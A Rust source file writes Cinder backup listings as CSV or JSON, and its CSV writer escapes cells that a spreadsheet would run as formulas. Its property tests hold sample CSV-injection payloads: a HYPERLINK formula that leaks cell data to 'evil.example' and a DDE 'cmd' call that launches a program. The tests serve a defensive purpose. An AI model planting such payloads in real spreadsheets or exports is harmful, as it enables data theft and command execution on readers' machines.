//! Backups as a file: CSV for a spreadsheet, JSON for a program. JSON has every text as the service stores it; CSV
//! guards texts that a spreadsheet would run as formulas.

use crate::cinder::Backup;
use crate::pagination::grouped;
use crate::pairs::Pairs;
use crate::timestamp::{Instant, Timestamp};
use std::fmt;

/// What kind of file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// Comma-separated values, RFC 4180.
    Csv,
    /// One JSON object, a backup a line.
    Json,
}

impl Format {
    /// All of them.
    pub const ALL: [Self; 2] = [Self::Csv, Self::Json];

    /// How the file's name ends.
    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Json => "json",
        }
    }

    /// The file's media type.
    pub fn media_type(self) -> &'static str {
        match self {
            Self::Csv => "text/csv;charset=utf-8",
            Self::Json => "application/json",
        }
    }

    /// The word on screen.
    pub fn label(self) -> &'static str {
        match self {
            Self::Csv => "CSV",
            Self::Json => "JSON",
        }
    }
}

/// What the file says of itself.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct About {
    /// Whose backups.
    pub project_id: String,
    /// When the backups were read.
    pub as_of: Instant,
    /// What was asked for: the filters in words or the query language; empty for all backups.
    pub filters: String,
    /// How much of the project stands behind it: `complete`, `partial: 11,000 of 12,431`, `page 2`.
    pub extent: String,
    /// How many rows it must have.
    pub rows: usize,
}

/// Cinder's names of the fields, in the order of `values`.
const NAMES: [&str; 20] = [
    "id",
    "name",
    "status",
    "fail_reason",
    "volume_id",
    "is_incremental",
    "size",
    "object_count",
    "data_timestamp",
    "created_at",
    "updated_at",
    "availability_zone",
    "container",
    "snapshot_id",
    "has_dependent_backups",
    "description",
    "os-backup-project-attr:project_id",
    "user_id",
    "encryption_key_id",
    "metadata",
];

fn values(backup: &Backup) -> [Value; 20] {
    [
        text(Some(&backup.id)),
        text(backup.name.as_ref()),
        Value::Text(backup.status.word().to_owned()),
        text(backup.fail_reason.as_ref()),
        text(backup.volume_id.as_ref()),
        flag(backup.is_incremental),
        number(backup.size),
        number(backup.object_count),
        time(backup.data_timestamp.as_ref()),
        time(backup.created_at.as_ref()),
        time(backup.updated_at.as_ref()),
        text(backup.availability_zone.as_ref()),
        text(backup.container.as_ref()),
        text(backup.snapshot_id.as_ref()),
        flag(backup.has_dependent_backups),
        text(backup.description.as_ref().map(|description| &description.stored)),
        text(backup.project_id.as_ref()),
        text(backup.user_id.as_ref()),
        text(backup.encryption_key_id.as_ref()),
        backup.metadata.as_ref().map_or(Value::Null, |pairs| Value::Object(object(pairs))),
    ]
}

/// A field's value as both formats take it.
enum Value {
    Null,
    /// A number or a truth value.
    Bare(String),
    Text(String),
    /// JSON, which CSV takes as a text.
    Object(String),
}

fn text(text: Option<&String>) -> Value {
    text.map_or(Value::Null, |text| Value::Text(text.clone()))
}

fn flag(flag: Option<bool>) -> Value {
    flag.map_or(Value::Null, |flag| Value::Bare(if flag { "true" } else { "false" }.to_owned()))
}

fn number(number: Option<i64>) -> Value {
    number.map_or(Value::Null, |number| Value::Bare(number.to_string()))
}

fn time(time: Option<&Timestamp>) -> Value {
    time.map_or(Value::Null, |time| {
        Value::Text(match time {
            Timestamp::At(instant) => instant.to_string(),
            Timestamp::Unreadable(text) => text.clone(),
        })
    })
}

fn object(pairs: &Pairs<String>) -> String {
    let members: Vec<String> = pairs.0.iter().map(|(key, value)| quoted(key) + ":" + &quoted(value)).collect();
    format!("{{{}}}", members.join(","))
}

/// JSON's own quotes. Text always has some.
fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap_or_default()
}

/// A text that no spreadsheet runs. The apostrophe goes before white space, because readers differ in whether they drop
/// it; full-width signs count, because Excel in East Asia takes them for the plain ones. Where Windows separates lists by
/// semicolons, Excel cuts a CSV file there and at line breaks, and heeds no quotes that do not open a cell of its own
/// reckoning: what comes after a semicolon, a line break or such a quote can begin a cell.
fn guarded(text: &str) -> String {
    let mut safe = String::with_capacity(text.len() + 1);
    for part in text.split_inclusive([';', '\r', '\n']) {
        let rest = part.trim_start_matches(|c: char| c <= ' ' || c.is_whitespace() || matches!(c, '"' | '\u{feff}'));
        let is_formula = rest.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
        if is_formula || safe.is_empty() && part.starts_with(|c| c < ' ') {
            safe.push('\'');
        }
        safe.push_str(part);
    }
    safe
}

/// Writes a text's cell. An empty text has quotes and null has none: databases that read CSV tell them apart by this.
fn cell(csv: &mut String, text: &str) {
    let text = guarded(text);
    let quotes = text.is_empty() || text.trim().len() < text.len() || text.contains([',', '"', '\r', '\n']);
    if quotes {
        csv.extend(["\"", &text.replace('"', "\"\""), "\""]);
    } else {
        csv.push_str(&text);
    }
}

/// A file in the making; a few rows can be added at a time so that a large one keeps nobody waiting.
#[derive(Debug)]
pub struct Writer {
    format: Format,
    text: String,
    /// What ends every row.
    tail: String,
    expected: usize,
    written: usize,
}

impl Writer {
    /// Begins a file.
    pub fn new(format: Format, about: About) -> Self {
        let as_of = about.as_of.to_string();
        let mut tail = String::new();
        let text = match format {
            Format::Csv => {
                // In every row, so that a row tells where it is from even in a merged file; RFC 4180 has no comments.
                for text in [&as_of, &about.extent, &about.filters] {
                    tail.push(',');
                    cell(&mut tail, text);
                }
                tail.push_str("\r\n");
                let names: Vec<&str> = NAMES.iter().map(|name| name.rsplit(':').next().unwrap_or(name)).collect();
                // Without a byte order mark, Excel reads names that are not ASCII in its old code page.
                format!("\u{feff}{},as_of,extent,filters\r\n", names.join(","))
            }
            Format::Json => format!(
                "{{\"project_id\":{},\"as_of\":{},\"filters\":{},\"extent\":{},\"count\":{},\"backups\":[",
                quoted(&about.project_id),
                quoted(&as_of),
                quoted(&about.filters),
                quoted(&about.extent),
                about.rows
            ),
        };
        Self { format, text, tail, expected: about.rows, written: 0 }
    }

    /// Adds a row.
    pub fn push(&mut self, backup: &Backup) {
        let out = &mut self.text;
        let mut separator = match (self.format, self.written) {
            (Format::Csv, _) => "",
            (Format::Json, 0) => "\n{",
            (Format::Json, _) => ",\n{",
        };
        for (name, value) in NAMES.into_iter().zip(values(backup)) {
            out.push_str(separator);
            separator = ",";
            match (self.format, value) {
                (Format::Csv, Value::Null) => {}
                (Format::Csv, Value::Text(text) | Value::Object(text)) => cell(out, &text),
                (Format::Csv, Value::Bare(text)) => out.push_str(&text),
                (Format::Json, value) => {
                    let value = match value {
                        Value::Null => "null".to_owned(),
                        Value::Text(text) => quoted(&text),
                        Value::Bare(json) | Value::Object(json) => json,
                    };
                    out.extend(["\"", name, "\":", &value]);
                }
            }
        }
        out.push_str(match self.format {
            Format::Csv => &self.tail,
            Format::Json => "}",
        });
        self.written += 1;
    }

    /// The whole text; refused when not as many rows were written as were promised.
    pub fn finish(mut self) -> Result<String, Miscounted> {
        if self.written != self.expected {
            return Err(Miscounted { expected: self.expected, written: self.written });
        }
        if self.format == Format::Json {
            self.text.push_str("\n]}\n");
        }
        Ok(self.text)
    }
}

/// More or fewer rows than were promised.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Miscounted {
    /// How many were promised.
    pub expected: usize,
    /// How many were written.
    pub written: usize,
}

impl fmt::Display for Miscounted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let rows = if self.written == 1 { "row was" } else { "rows were" };
        let expected = if self.expected == 1 { "was" } else { "were" };
        let (written, promised) = (grouped(self.written as u64), grouped(self.expected as u64));
        write!(f, "{written} {rows} written where {promised} {expected} expected: nothing was saved.")
    }
}

/// The file's name: `backups_20261124T094100Z_412-rows.csv`.
pub fn file_name(format: Format, about: &About) -> String {
    let as_of = about.as_of.to_string();
    // To the second: the fraction says nothing to a reader, and a colon no file system takes.
    let time: String = as_of.chars().take_while(|c| *c != '.').filter(char::is_ascii_alphanumeric).collect();
    let rows = if about.rows == 1 { "row" } else { "rows" };
    format!("backups_{time}Z_{}-{rows}.{}", about.rows, format.extension())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cinder::Status;
    use crate::cinder::backup::Description;
    use proptest::prelude::*;

    const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
    const BARE: [&str; 4] = ["is_incremental", "size", "object_count", "has_dependent_backups"];

    fn about(rows: usize) -> About {
        About {
            project_id: "p".to_owned(),
            as_of: Instant::parse("2026-11-24T09:41:00.123456").unwrap(),
            filters: "-status:available".to_owned(),
            extent: "partial: 11,000 of 12,431".to_owned(),
            rows,
        }
    }

    fn written(format: Format, backups: &[Backup]) -> String {
        let mut writer = Writer::new(format, about(backups.len()));
        for backup in backups {
            writer.push(backup);
        }
        writer.finish().unwrap()
    }

    fn named(name: &str) -> Backup {
        Backup { name: Some(name.to_owned()), ..Backup::read(r#"{"id": "a", "status": "available"}"#).unwrap() }
    }

    /// RFC 4180 to the letter: every record ends in CRLF, a quote is in quotes and doubled; a cell is its text and
    /// whether it was in quotes.
    fn read(csv: &str) -> Result<Vec<Vec<(String, bool)>>, String> {
        let mut rest = csv.strip_prefix('\u{feff}').ok_or("no byte order mark")?;
        let (mut records, mut record) = (Vec::new(), Vec::new());
        while !rest.is_empty() {
            let mut text = String::new();
            let is_quoted = rest.starts_with('"');
            if is_quoted {
                rest = &rest[1..];
                loop {
                    let end = rest.find('"').ok_or("an open quote")?;
                    text += &rest[..end];
                    rest = &rest[end + 1..];
                    let Some(more) = rest.strip_prefix('"') else { break };
                    text.push('"');
                    rest = more;
                }
            } else {
                let end = rest.find([',', '"', '\r', '\n']).ok_or("no end")?;
                text += &rest[..end];
                rest = &rest[end..];
            }
            record.push((text, is_quoted));
            if let Some(more) = rest.strip_prefix(',') {
                rest = more;
            } else {
                rest = rest.strip_prefix("\r\n").ok_or_else(|| format!("stray text: {rest:.20}"))?;
                records.push(std::mem::take(&mut record));
            }
        }
        if record.is_empty() { Ok(records) } else { Err("the last record has no end".to_owned()) }
    }

    /// What the cells of a row must be, unguarded.
    fn cells(backup: &Backup) -> Vec<Option<String>> {
        let Backup { links: _, .. } = backup;
        let time = |time: &Option<Timestamp>| {
            time.as_ref().map(|time| match time {
                Timestamp::At(instant) => instant.to_string(),
                Timestamp::Unreadable(text) => text.clone(),
            })
        };
        let about = about(0);
        vec![
            Some(backup.id.clone()),
            backup.name.clone(),
            Some(backup.status.word().to_owned()),
            backup.fail_reason.clone(),
            backup.volume_id.clone(),
            backup.is_incremental.map(|flag| flag.to_string()),
            backup.size.map(|size| size.to_string()),
            backup.object_count.map(|count| count.to_string()),
            time(&backup.data_timestamp),
            time(&backup.created_at),
            time(&backup.updated_at),
            backup.availability_zone.clone(),
            backup.container.clone(),
            backup.snapshot_id.clone(),
            backup.has_dependent_backups.map(|flag| flag.to_string()),
            backup.description.clone().map(|description| description.stored),
            backup.project_id.clone(),
            backup.user_id.clone(),
            backup.encryption_key_id.clone(),
            backup.metadata.as_ref().map(object),
            Some("2026-11-24T09:41:00.123456Z".to_owned()),
            Some(about.extent),
            Some(about.filters),
        ]
    }

    /// A guarded text without its apostrophes.
    fn unguarded(cell: &str, text: &str) -> bool {
        let mut rest = cell.chars().peekable();
        text.chars().all(|c| rest.next_if_eq(&c).is_some() || rest.next() == Some('\'') && rest.next() == Some(c))
            && rest.next().is_none()
    }

    fn any_text() -> impl Strategy<Value = String> {
        prop_oneof![
            "[=+@,;\"' \t\r\n\0a＝＋－＠\u{feff}\u{a0}💾-]{0,10}",
            "\\PC{0,12}",
            Just("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".to_owned()),
            Just("nightly;=cmd|' /C calc'!A0".to_owned()),
            Just("{\"DESC\": \"weekly\", \"INC\": 1}".to_owned()),
        ]
    }

    fn any_time() -> impl Strategy<Value = Option<Timestamp>> {
        prop::option::of(prop_oneof![
            (-62_135_596_800_000_i64..253_402_300_800_000).prop_map(|ms| Timestamp::At(Instant::from_millis(ms))),
            any_text().prop_map(Timestamp::read),
        ])
    }

    prop_compose! {
        fn any_backup()(
            id in any_text(),
            status in any_text(),
            texts in prop::collection::vec(prop::option::of(any_text()), 10),
            numbers in prop::array::uniform2(any::<Option<i64>>()),
            flags in prop::array::uniform2(any::<Option<bool>>()),
            times in prop::array::uniform3(any_time()),
            metadata in prop::option::of(prop::collection::vec((any_text(), any_text()), 0..3)),
        ) -> Backup {
            let mut texts = texts.into_iter();
            let mut text = || texts.next().flatten();
            let [created_at, updated_at, data_timestamp] = times;
            Backup {
                id,
                status: Status::from_word(&status),
                name: text(),
                description: text().map(Description::read),
                volume_id: text(),
                fail_reason: text(),
                size: numbers[0],
                object_count: numbers[1],
                container: text(),
                availability_zone: text(),
                created_at,
                updated_at,
                data_timestamp,
                snapshot_id: text(),
                is_incremental: flags[0],
                has_dependent_backups: flags[1],
                project_id: text(),
                user_id: text(),
                encryption_key_id: text(),
                metadata: metadata.map(Pairs),
                links: None,
            }
        }
    }

    #[test]
    fn a_csv_file_has_one_header_and_says_in_every_row_where_it_is_from() {
        let backup = Backup::read(
            r#"{"id": "a", "status": "error", "name": "-1", "size": -1, "is_incremental": false, "created_at": "2026-11-23T02:00:00.000000",
                "updated_at": "soon", "description": "", "os-backup-project-attr:project_id": "q", "metadata": {"k": "v\n"}}"#,
        );
        assert_eq!(
            written(Format::Csv, &[backup.unwrap()]),
            "\u{feff}id,name,status,fail_reason,volume_id,is_incremental,size,object_count,data_timestamp,created_at,\
             updated_at,availability_zone,container,snapshot_id,has_dependent_backups,description,project_id,user_id,\
             encryption_key_id,metadata,as_of,extent,filters\r\n\
             a,'-1,error,,,false,-1,,,2026-11-23T02:00:00.000000Z,\
             soon,,,,,\"\",q,,,\"{\"\"k\"\":\"\"v\\n\"\"}\",\
             2026-11-24T09:41:00.123456Z,\"partial: 11,000 of 12,431\",'-status:available\r\n"
        );
    }

    #[test]
    fn a_json_file_has_a_backup_a_line() {
        let json = written(Format::Json, &[named("=1"), named("\0\u{1f4be}\"")]);
        let lines: Vec<_> = json.split('\n').collect();
        assert_eq!(
            lines[0],
            r#"{"project_id":"p","as_of":"2026-11-24T09:41:00.123456Z","filters":"-status:available","extent":"partial: 11,000 of 12,431","count":2,"backups":["#
        );
        assert!(lines[1].starts_with(r#"{"id":"a","name":"=1","status":"available","fail_reason":null,"#));
        assert!(lines[2].starts_with(r#"{"id":"a","name":"\u0000💾\"","#));
        assert_eq!(lines[3..], ["]}", ""]);
    }

    #[test]
    fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
        for (text, expected) in [
            ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\ta", "'\ta"),
            ("\ra", "'\ra"),
            ("\0a", "'\0a"),
            (" \u{a0}=1", "' \u{a0}=1"),
            ("＝1", "'＝1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠1", "'＠1"),
            ("a; =1;b", "a;' =1;b"),
            ("a\n=1", "a\n'=1"),
            ("a;\"=1", "a;'\"=1"),
            ("'=1", "'=1"),
            ("a-b=c, =d", "a-b=c, =d"),
            ("!=", "!="),
            ("", ""),
        ] {
            assert_eq!(guarded(text), expected);
        }
    }

    #[test]
    fn a_file_without_rows_is_whole() {
        assert_eq!(read(&written(Format::Csv, &[])).unwrap().len(), 1);
        let json: serde_json::Value = serde_json::from_str(&written(Format::Json, &[])).unwrap();
        assert_eq!(json["backups"], serde_json::json!([]));
    }

    #[test]
    fn a_file_with_another_number_of_rows_is_refused() {
        for format in Format::ALL {
            let mut writer = Writer::new(format, about(2));
            writer.push(&named("a"));
            let refused = writer.finish().unwrap_err();
            assert_eq!(refused, Miscounted { expected: 2, written: 1 });
            assert_eq!(refused.to_string(), "1 row was written where 2 were expected: nothing was saved.");
        }
        let mut writer = Writer::new(Format::Csv, about(1));
        writer.push(&named("a"));
        writer.push(&named("a"));
        assert_eq!(
            writer.finish().unwrap_err().to_string(),
            "2 rows were written where 1 was expected: nothing was saved."
        );
        let many = Miscounted { expected: 12_431, written: 12_430 };
        assert_eq!(many.to_string(), "12,430 rows were written where 12,431 were expected: nothing was saved.");
    }

    #[test]
    fn a_file_is_named_after_its_time_and_its_rows() {
        assert_eq!(file_name(Format::Csv, &about(412)), "backups_20261124T094100Z_412-rows.csv");
        assert_eq!(file_name(Format::Json, &about(1)), "backups_20261124T094100Z_1-row.json");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        #[test]
        fn every_csv_reads_back_to_its_cells(backups in prop::collection::vec(any_backup(), 0..4)) {
            let records = read(&written(Format::Csv, &backups)).map_err(TestCaseError::fail)?;
            prop_assert_eq!(records.len(), backups.len() + 1);
            for (record, backup) in records[1..].iter().zip(&backups) {
                let expected = cells(backup);
                prop_assert_eq!(record.len(), expected.len());
                prop_assert_eq!(record.len(), records[0].len());
                for (((cell, is_quoted), expected), (name, _)) in record.iter().zip(expected).zip(&records[0]) {
                    let is_bare = BARE.contains(&name.as_str());
                    match expected {
                        None => prop_assert!(cell.is_empty() && !is_quoted),
                        Some(text) if is_bare => prop_assert_eq!((cell, *is_quoted), (&text, false)),
                        Some(text) => {
                            prop_assert!(unguarded(cell, &text), "{name}: {cell:?} of {text:?}");
                            prop_assert!(!cell.is_empty() || *is_quoted);
                            prop_assert!(!cell.trim_start().starts_with(FORMULA) && !cell.starts_with(['\t', '\r', '\n', '\0']));
                        }
                    }
                }
            }
        }

        #[test]
        fn a_reader_that_cuts_at_semicolons_finds_no_formula_either(backup in any_backup()) {
            let csv = written(Format::Csv, &[backup]);
            for cell in csv.split([';', '\r', '\n']) {
                let cell = cell.trim_matches(|c: char| c == '"' || c == '\u{feff}' || c == '\0' || c.is_whitespace());
                prop_assert!(!cell.starts_with(FORMULA), "{cell:?}");
            }
        }

        #[test]
        fn every_json_reads_back_to_its_backups(backups in prop::collection::vec(any_backup(), 0..4)) {
            let json = written(Format::Json, &backups);
            let value: serde_json::Value = serde_json::from_str(&json).unwrap();
            prop_assert_eq!(&value["count"], backups.len());
            prop_assert_eq!(value["backups"].as_array().unwrap().len(), backups.len());
            let lines: Vec<_> = json.lines().collect();
            prop_assert_eq!(lines.len(), backups.len() + 2);
            for (line, backup) in lines[1..].iter().zip(backups) {
                prop_assert_eq!(Backup::read(line.trim_end_matches(',')), Ok(backup));
            }
        }

        #[test]
        fn no_file_system_refuses_the_name(millis in any::<i64>(), rows in any::<usize>()) {
            let about = About { as_of: Instant::from_millis(millis / 1_000_000), ..about(rows) };
            let name = file_name(Format::Csv, &about);
            prop_assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)), "{name}");
        }
    }
}
